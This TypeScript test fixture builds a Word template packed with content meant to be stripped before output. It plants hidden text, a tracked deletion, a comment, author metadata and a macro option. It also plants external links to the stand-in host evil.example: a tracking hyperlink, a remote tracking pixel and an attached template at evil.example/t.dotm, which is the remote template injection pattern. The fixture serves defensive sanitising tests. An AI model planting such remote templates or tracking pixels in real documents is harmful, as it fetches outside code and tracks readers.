import { crc32, deflateSync } from 'node:zlib';
import { zipSync, strToU8 } from 'fflate';

/** Words that a template holds and that are in nothing that is made with it. */
export const planted = [
	'Ada Fell',
	'Ministry of Leaks',
	'hidden remark',
	'struck out',
	'reviewer says',
	'evil.example'
];

const spaces =
	'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function relations(...entries: [id: string, type: string, target: string, isExternal?: boolean][]): string {
	const each = entries.map(
		([id, type, target, isExternal]) =>
			`<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`
	);
	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join('')}</Relationships>`;
}

const run = (text: string, properties = '') =>
	`<w:r>${properties && `<w:rPr>${properties}</w:rPr>`}<w:t xml:space="preserve">${text}</w:t></w:r>`;
const paragraph = (runs: string, properties = '') =>
	`<w:p>${properties && `<w:pPr>${properties}</w:pPr>`}${runs}</w:p>`;
const field = (code: string, shown: string) =>
	`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(shown)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const picture = (relation: string) =>
	`<w:r><w:drawing><wp:anchor><wp:extent cx="1270000" cy="635000"/><wp:docPr id="1" name="x" descr="Ada Fell"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="${relation}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r>`;

const style = (id: string, name: string, paragraphs: string, runs: string, more = '') =>
	`<w:style w:type="paragraph" w:styleId="${id}"${more}><w:name w:val="${name}"/>${id === 'Normal' ? '' : '<w:basedOn w:val="Normal"/>'}<w:pPr>${paragraphs}</w:pPr><w:rPr>${runs}</w:rPr></w:style>`;

/** Named as a French Word names them: the names stay English, the ids do not. */
const styles = `<w:styles ${spaces}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi" w:cstheme="minorBidi"/><w:sz w:val="22"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after="160" w:line="276" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults>${[
	style('Normal', 'Normal', '', '', ' w:default="1"'),
	style(
		'Titre',
		'Title',
		'<w:jc w:val="center"/><w:spacing w:after="300"/>',
		'<w:color w:val="1F4E79"/><w:sz w:val="56"/>'
	),
	style(
		'Titre1',
		'heading 1',
		'<w:pBdr><w:bottom w:val="single" w:color="C00000"/></w:pBdr><w:spacing w:before="480"/>',
		'<w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/><w:color w:val="C00000"/><w:sz w:val="36"/>'
	),
	style('Titre2', 'heading 2', '', '<w:b/><w:i/><w:color w:val="2E75B6"/>'),
	style('Notedebasdepage', 'footnote text', '<w:spacing w:after="0"/>', '<w:sz w:val="16"/>')
].join('')}</w:styles>`;

const theme = `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:fontScheme name="x"><a:majorFont><a:latin typeface="Georgia"/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Carlito"/><a:cs typeface=""/><a:font script="Arab" typeface="Amiri"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>`;

function png(): Uint8Array {
	const chunk = (name: string, data: Uint8Array) => {
		const length = Buffer.alloc(4);
		length.writeUInt32BE(data.length);
		const named = Buffer.concat([Buffer.from(name, 'latin1'), data]);
		const sum = Buffer.alloc(4);
		sum.writeUInt32BE(crc32(named));
		return Buffer.concat([length, named, sum]);
	};
	const head = Buffer.from([0, 0, 0, 8, 0, 0, 0, 4, 8, 0, 0, 0, 0]);
	const data = deflateSync(Buffer.alloc(36, 120));
	const text = chunk('tEXt', Buffer.from('Author\0Ada Fell'));
	const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
	return Buffer.concat([mark, chunk('IHDR', head), text, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

export type TemplateOptions = { cover?: boolean; macros?: boolean; more?: Record<string, Uint8Array> };

/** A publisher's template, with all that such a file may hold and that must not be passed on. */
export function houseTemplate({ cover = true, macros = false, more = {} }: TemplateOptions = {}): Uint8Array {
	const section = (titlePage: string) =>
		`<w:sectPr><w:headerReference w:type="default" r:id="rId1"/><w:headerReference w:type="first" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/><w:pgMar w:top="1700" w:right="1400" w:bottom="1400" w:left="1800"/>${titlePage}</w:sectPr>`;
	const body = [
		paragraph(run('{{pub') + run('lishers}}', '<w:b/>'), '<w:jc w:val="right"/>'),
		paragraph(run(cover ? '{{title}}' : 'Example'), '<w:pStyle w:val="Titre"/>'),
		paragraph(
			run('hidden remark', '<w:vanish/>') +
				`<w:del><w:r><w:delText>struck out</w:delText></w:r></w:del>` +
				run('{{kind}}')
		),
		paragraph(run('{{details}}', '<w:sz w:val="18"/>')),
		paragraph('<w:r><w:br w:type="page"/></w:r>'),
		paragraph(run('Ministry of Leaks, an example of text'))
	];
	const kind = macros
		? 'application/vnd.ms-word.document.macroEnabled.main+xml'
		: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
	const parts = {
		'[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${kind}"/></Types>`,
		'_rels/.rels': relations(['rId1', 'officeDocument', 'word/document.xml']),
		'docProps/core.xml':
			'<cp:coreProperties><dc:creator>Ada Fell</dc:creator><cp:lastModifiedBy>Ada Fell</cp:lastModifiedBy></cp:coreProperties>',
		'docProps/app.xml': '<Properties><Company>Ministry of Leaks</Company></Properties>',
		'word/document.xml': `<w:document ${spaces}><w:body>${body.join('')}${section('<w:titlePg/>')}</w:body></w:document>`,
		'word/_rels/document.xml.rels': relations(
			['rId1', 'header', 'header1.xml'],
			['rId2', 'header', 'header2.xml'],
			['rId3', 'footer', 'footer1.xml']
		),
		'word/header1.xml': `<w:hdr ${spaces}>${paragraph(run('House of Rights') + '<w:r><w:tab/></w:r>' + `<w:hyperlink r:id="rId9">${run('our site')}</w:hyperlink>`, '<w:tabs><w:tab w:val="right" w:pos="8700"/></w:tabs>')}</w:hdr>`,
		'word/_rels/header1.xml.rels': relations(['rId9', 'hyperlink', 'https://evil.example/track', true]),
		'word/header2.xml': `<w:hdr ${spaces}>${paragraph(picture('rId1') + picture('rId7'))}</w:hdr>`,
		'word/_rels/header2.xml.rels': relations(
			['rId1', 'image', 'media/image1.png'],
			['rId7', 'image', 'https://evil.example/pixel.png', true]
		),
		'word/footer1.xml': `<w:ftr ${spaces}>${paragraph(run('Page ') + field('PAGE', '1') + run(' — ') + field('AUTHOR', 'Ada Fell'), '<w:jc w:val="center"/>')}</w:ftr>`,
		'word/styles.xml': styles,
		'word/theme/theme1.xml': theme,
		'word/comments.xml': `<w:comments ${spaces}><w:comment w:author="Ada Fell">${paragraph(run('reviewer says'))}</w:comment></w:comments>`,
		'word/settings.xml': `<w:settings ${spaces}><w:attachedTemplate r:id="rId1"/></w:settings>`,
		'word/_rels/settings.xml.rels': relations(['rId1', 'attachedTemplate', 'https://evil.example/t.dotm', true]),
		'word/embeddings/oleObject1.bin': 'Ministry of Leaks',
		...(macros ? { 'word/vbaProject.bin': 'Ministry of Leaks' } : {})
	};
	const packed = Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]));
	return zipSync({ ...packed, 'word/media/image1.png': png(), ...more });
}
